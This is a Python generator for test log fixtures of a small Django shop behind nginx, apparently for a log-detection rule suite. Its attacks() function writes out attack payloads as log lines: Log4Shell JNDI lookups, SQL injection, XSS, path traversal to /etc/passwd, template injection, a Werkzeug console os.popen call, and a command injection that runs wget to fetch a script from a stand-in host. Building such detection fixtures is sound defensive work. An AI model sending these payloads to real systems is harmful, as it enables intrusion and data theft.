"""Write the scenario logs of tests/logs (run from the repository root; output is committed).

- `clean_day.access.log`: a day of ordinary traffic of a small Django shop behind nginx
  (combined format): browsing, searches with quotes and angle brackets, logins with
  typos, a password reset, an API integration paging through products, a crawler,
  health checks, a few 404s and 500s. Every log rule must stay silent on it.
- `attack_day.access.log`: another ordinary day with one of each attack mixed in (see
  ATTACKS below for who does what, and when), plus two truncated lines.
- `attack_day.app.log`: the same day's Django application log: ordinary records, a
  traceback, failed logins for many accounts from one client (credential stuffing),
  failed logins for `admin` from four clients, and `django.security` warnings.

Addresses are from the documentation ranges (RFC 5737, RFC 3849).
"""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path

HERE = Path(__file__).parent
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
)
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
MONITOR = "UptimeRobot/2.0; http://www.uptimerobot.com/"
INTEGRATION = "python-requests/2.31.0"
SEARCHES = (
    "blue+shoes",
    "O%27Reilly",
    "rock+%27n%27+roll",
    "c%2B%2B+book",
    "50%25+off",
    "i+%3C3+tea",
    "a+%3C+b",
    "select+union+jack",
    "don%27t+or+won%27t",
    "%22red+dress%22",
    "caf%C3%A9",
    "salt+%26+pepper",
)


class Day:
    """Lines of one day, kept sorted by time."""

    def __init__(self, date: dt.date, seed: int) -> None:
        self.date = date
        self.random = random.Random(seed)
        self.lines: list[tuple[float, int, str]] = []

    def at(self, hour: int, minute: int = 0, second: float = 0.0) -> float:
        return hour * 3600 + minute * 60 + second

    def add(
        self,
        when: float,
        client: str,
        request: str,
        status: int,
        size: int,
        agent: str,
        referrer: str = "-",
        user: str = "-",
    ) -> None:
        moment = dt.datetime.combine(self.date, dt.time()) + dt.timedelta(seconds=int(when))
        stamp = moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
        line = f'{client} - {user} [{stamp}] "{request}" {status} {size} "{referrer}" "{agent}"'
        self.lines.append((int(when), len(self.lines), line))

    def write(self, path: Path, broken: dict[int, str] | None = None) -> None:
        ordered = [line for _, _, line in sorted(self.lines)]
        for index, text in sorted((broken or {}).items()):
            ordered.insert(index, text)
        path.write_text("\n".join(ordered) + "\n", encoding="utf-8")


def ordinary_traffic(day: Day) -> None:
    """Visitors, a crawler, health checks and an API integration over 24 hours."""
    rnd = day.random
    visitors = [f"203.0.113.{n}" for n in range(10, 40)] + [f"2001:db8:4:{n:x}::1" for n in range(1, 6)]
    for _ in range(120):
        client = rnd.choice(visitors)
        agent = rnd.choice(BROWSERS)
        start = rnd.uniform(day.at(6), day.at(23))
        t = start
        day.add(t, client, "GET / HTTP/1.1", 200, rnd.randint(5000, 5400), agent, "https://www.google.com/")
        for asset, size in (("/static/css/app.css", 18211), ("/static/js/app.js", 40312), ("/static/img/logo.png", 5120)):
            day.add(t + 0.3, client, f"GET {asset} HTTP/1.1", 200, size, agent, "https://shop.example/")
        for _ in range(rnd.randint(1, 5)):
            t += rnd.uniform(5, 90)
            roll = rnd.random()
            if roll < 0.35:
                pid = rnd.randint(1, 400)
                day.add(t, client, f"GET /products/{pid}/ HTTP/1.1", 200, rnd.randint(4200, 5800), agent, "https://shop.example/")
                day.add(t + 0.2, client, f"GET /media/products/{pid}.jpg HTTP/1.1", 200, rnd.randint(20000, 90000), agent)
            elif roll < 0.55:
                query = rnd.choice(SEARCHES)
                day.add(t, client, f"GET /search/?q={query} HTTP/1.1", 200, rnd.randint(3000, 9000), agent, "https://shop.example/")
            elif roll < 0.7:
                day.add(t, client, f"GET /products/?page={rnd.randint(1, 9)}&utm_source=newsletter HTTP/1.1", 200, rnd.randint(6000, 7000), agent)
            elif roll < 0.8:
                day.add(t, client, f"POST /cart/add/{rnd.randint(1, 400)}/ HTTP/1.1", 302, 0, agent, "https://shop.example/products/")
                day.add(t + 0.5, client, "GET /cart/ HTTP/1.1", 200, rnd.randint(3000, 3500), agent)
            elif roll < 0.9:
                day.add(t, client, "GET /accounts/login/ HTTP/1.1", 200, 3810, agent)
                if rnd.random() < 0.3:  # a typo first: the form comes back (200)
                    t += 6
                    day.add(t, client, "POST /accounts/login/ HTTP/1.1", 200, 3902, agent, "https://shop.example/accounts/login/")
                t += 8
                day.add(t, client, "POST /accounts/login/ HTTP/1.1", 302, 0, agent, "https://shop.example/accounts/login/")
                day.add(t + 0.4, client, "GET /accounts/profile/ HTTP/1.1", 200, 4100, agent)
            else:
                day.add(t, client, "GET /favicon.ico HTTP/1.1", 404, 179, agent)
    for n in range(288):  # a health check every five minutes
        day.add(n * 300 + 7, "198.51.100.250", "GET /healthz HTTP/1.1", 200, 2, MONITOR)
    crawl = day.at(4, 10)
    for n in range(60):  # Googlebot, one page every ten seconds
        day.add(crawl + n * 10, "192.0.2.66", f"GET /products/{n + 1}/ HTTP/1.1", 200, 5000 + n, CRAWLER)
    sync = day.at(2, 0)
    for page in range(1, 101):  # the partner's nightly sync, one page a second
        day.add(sync + page, "198.51.100.77", f"GET /api/products/?page={page} HTTP/1.1", 200, 8192, INTEGRATION)
    staff = "203.0.113.5"
    day.add(day.at(9, 1), staff, "GET /admin/ HTTP/1.1", 302, 0, BROWSERS[0])
    day.add(day.at(9, 1, 1), staff, "GET /admin/login/?next=/admin/ HTTP/1.1", 200, 4210, BROWSERS[0])
    day.add(day.at(9, 1, 9), staff, "POST /admin/login/?next=/admin/ HTTP/1.1", 302, 0, BROWSERS[0])
    day.add(day.at(9, 1, 10), staff, "GET /admin/ HTTP/1.1", 200, 9120, BROWSERS[0])
    day.add(day.at(15, 30), "203.0.113.21", "GET /accounts/password_reset/ HTTP/1.1", 200, 2210, BROWSERS[1])
    day.add(day.at(15, 30, 20), "203.0.113.21", "POST /accounts/password_reset/ HTTP/1.1", 302, 0, BROWSERS[1])
    day.add(day.at(16, 45), "203.0.113.30", "GET /checkout/ HTTP/1.1", 500, 145, BROWSERS[2])
    day.add(day.at(16, 45, 30), "203.0.113.30", "GET /checkout/ HTTP/1.1", 200, 6120, BROWSERS[2])


ATTACKS = """\
03:12 192.0.2.8        Log4Shell lookups in the user agent and referrer (WW1193)
10:15 198.51.100.13    sqlmap: SQL injection on /products/, some answered 500 (WW490, WW1194, WW1198)
11:00 203.0.113.99     reflected XSS probes on /search/ (WW590)
12:30 192.0.2.50       path traversal on /download/ (WW1190)
13:10 192.0.2.44       command injection on /tools/ping/ (WW1191)
14:00 198.51.100.61    template injection on /hello/ (WW1192)
14:40 192.0.2.77       Nikto sweeping sensitive paths, all 404 (WW1194, WW1195)
15:05 198.51.100.9     a scraper: 700 requests in a minute (WW1196)
17:20 203.0.113.66     the Werkzeug console, and code run through it (WW1197)
18:00 198.51.100.88    /.env served with 200 (WW1198)
19:00 203.0.113.150    union-select dump: a 250 kB answer where 5 kB is usual (WW490, WW1198)
20:00 192.0.2.200      15 failed logins, then a success (WW790, WW793)
21:00 198.51.100.31    8 password-reset requests in two minutes (WW794)
"""


def attacks(day: Day) -> None:
    agent = BROWSERS[2]
    t = day.at(3, 12)
    for n in range(3):
        day.add(t + n * 20, "192.0.2.8", "GET / HTTP/1.1", 200, 5120, "${jndi:ldap://198.51.100.66:1389/Exploit}", "${${lower:j}ndi:dns://198.51.100.66/x}")
    t = day.at(10, 15)
    sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)"
    payloads = (
        ("1", 200, 5100),
        ("1%27", 500, 145),
        ("1%20AND%201234=1234", 200, 5100),
        ("1%20AND%201234=1235", 200, 5100),
        ("1%27%20OR%20%271%27=%271", 500, 145),
        ("1%20UNION%20ALL%20SELECT%20NULL,NULL--", 200, 5100),
        ("1%3BSELECT%20PG_SLEEP(5)--", 200, 5100),
        ("1%20AND%20(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)", 200, 5100),
    )
    for n, (value, status, size) in enumerate(payloads):
        day.add(t + n * 3, "198.51.100.13", f"GET /products/?id={value} HTTP/1.1", status, size, sqlmap)
    t = day.at(11, 0)
    for n, value in enumerate(("%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Csvg/onload=alert(document.domain)%3E", "javascript:alert(1)")):
        day.add(t + n * 7, "203.0.113.99", f"GET /search/?q={value} HTTP/1.1", 200, 3100, agent)
    t = day.at(12, 30)
    for n, value in enumerate(("..%2F..%2F..%2Fetc%2Fpasswd", "%252e%252e%252f%252e%252e%252fsettings.py")):
        day.add(t + n * 5, "192.0.2.50", f"GET /download/?file={value} HTTP/1.1", 404, 179, agent)
    t = day.at(13, 10)
    for n, value in enumerate(("127.0.0.1%3Bid", "127.0.0.1%7C%7Cwget%20http://198.51.100.66/x.sh", "%24(sleep%205)")):
        day.add(t + n * 4, "192.0.2.44", f"GET /tools/ping/?host={value} HTTP/1.1", 200, 64, agent)
    t = day.at(14, 0)
    for n, value in enumerate(("%7B%7B7*7%7D%7D", "%7B%7Bconfig.items()%7D%7D", "%7B%7B%27%27.__class__.__mro__%7D%7D")):
        day.add(t + n * 6, "198.51.100.61", f"GET /hello/?name={value} HTTP/1.1", 200, 40, agent)
    t = day.at(14, 40)
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"
    for n, path in enumerate(("/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/console", "/server-status", "/backup.sql", "/admin.php")):
        day.add(t + n, "192.0.2.77", f"GET {path} HTTP/1.1", 404, 179, nikto)
    t = day.at(15, 5)
    for n in range(700):
        day.add(t + n * 0.08, "198.51.100.9", f"GET /products/?page={n % 40 + 1}&sort=price HTTP/1.1", 200, 6200, "Scrapy/2.11.0 (+https://scrapy.org)")
    t = day.at(17, 20)
    day.add(t, "203.0.113.66", "GET /console HTTP/1.1", 200, 2611, agent)
    day.add(t + 15, "203.0.113.66", "GET /console?__debugger__=yes&cmd=__import__(%27os%27).popen(%27id%27).read()&frm=0&s=abc HTTP/1.1", 200, 52, agent)
    day.add(day.at(18, 0), "198.51.100.88", "GET /.env HTTP/1.1", 200, 1234, "curl/8.5.0")
    t = day.at(19, 0)
    day.add(t, "203.0.113.150", "GET /products/7/?ref=1%20UNION%20SELECT%20username,password%20FROM%20auth_user HTTP/1.1", 200, 251234, agent)
    t = day.at(20, 0)
    for n in range(15):
        day.add(t + n * 9, "192.0.2.200", "POST /accounts/login/ HTTP/1.1", 200, 3902, INTEGRATION)
    day.add(t + 140, "192.0.2.200", "POST /accounts/login/ HTTP/1.1", 302, 0, INTEGRATION)
    t = day.at(21, 0)
    for n in range(8):
        day.add(t + n * 15, "198.51.100.31", "POST /accounts/password_reset/ HTTP/1.1", 302, 0, "curl/8.5.0")


def app_log(path: Path, date: dt.date) -> None:
    def stamp(hour: int, minute: int, second: int, ms: int) -> str:
        return f"{date.isoformat()} {hour:02d}:{minute:02d}:{second:02d},{ms:03d}"

    lines = [
        f"{stamp(6, 0, 0, 1)} INFO django.utils.autoreload Watching for file changes with StatReloader",
        f"{stamp(8, 15, 3, 120)} INFO myshop.orders Order 1042 paid",
        f"{stamp(9, 30, 0, 5)} WARNING myshop.auth Login failed for user 'maria' from 203.0.113.12",
        f"{stamp(9, 30, 9, 5)} INFO myshop.auth User maria logged in from 203.0.113.12",
        f"{stamp(16, 45, 0, 77)} ERROR django.request Internal Server Error: /checkout/",
        "Traceback (most recent call last):",
        '  File "/srv/myshop/shop/views.py", line 88, in checkout',
        "    total = cart.total()",
        "ZeroDivisionError: division by zero",
    ]
    accounts = ("alice", "bob", "carol", "dave", "erin", "frank", "grace")
    for n, account in enumerate(accounts):
        lines.append(f"{stamp(22, 0, n * 4, 300)} WARNING myshop.auth Login failed for user '{account}' from 198.51.100.40")
    for n, client in enumerate(("198.51.100.41", "198.51.100.42", "203.0.113.43", "2001:db8:9::44") * 3):
        lines.append(f"{stamp(22, 30 + n, 0, 10)} WARNING myshop.auth Login failed for user 'admin' from {client}")
    lines += [
        f"{stamp(23, 5, 0, 1)} ERROR django.security.DisallowedHost Invalid HTTP_HOST header: 'evil.example'. You may need to add 'evil.example' to ALLOWED_HOSTS.",
        f"{stamp(23, 5, 1, 2)} ERROR django.security.DisallowedHost Invalid HTTP_HOST header: 'evil.example'. You may need to add 'evil.example' to ALLOWED_HOSTS.",
        f"{stamp(23, 20, 0, 3)} WARNING django.security.csrf Forbidden (CSRF token missing.): /accounts/email/",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def main() -> None:
    clean = Day(dt.date(2024, 5, 1), seed=1)
    ordinary_traffic(clean)
    clean.write(HERE / "clean_day.access.log")
    attack = Day(dt.date(2024, 5, 2), seed=2)
    ordinary_traffic(attack)
    attacks(attack)
    attack.write(
        HERE / "attack_day.access.log",
        broken={
            300: '203.0.113.14 - - [02/May/2024:09:14:',
            900: '203.0.113.14 - - [02/May/2024:13:02:11 +0000] "GET /products/12/ HTTP/1.1" 2',
        },
    )
    app_log(HERE / "attack_day.app.log", dt.date(2024, 5, 2))


if __name__ == "__main__":
    main()
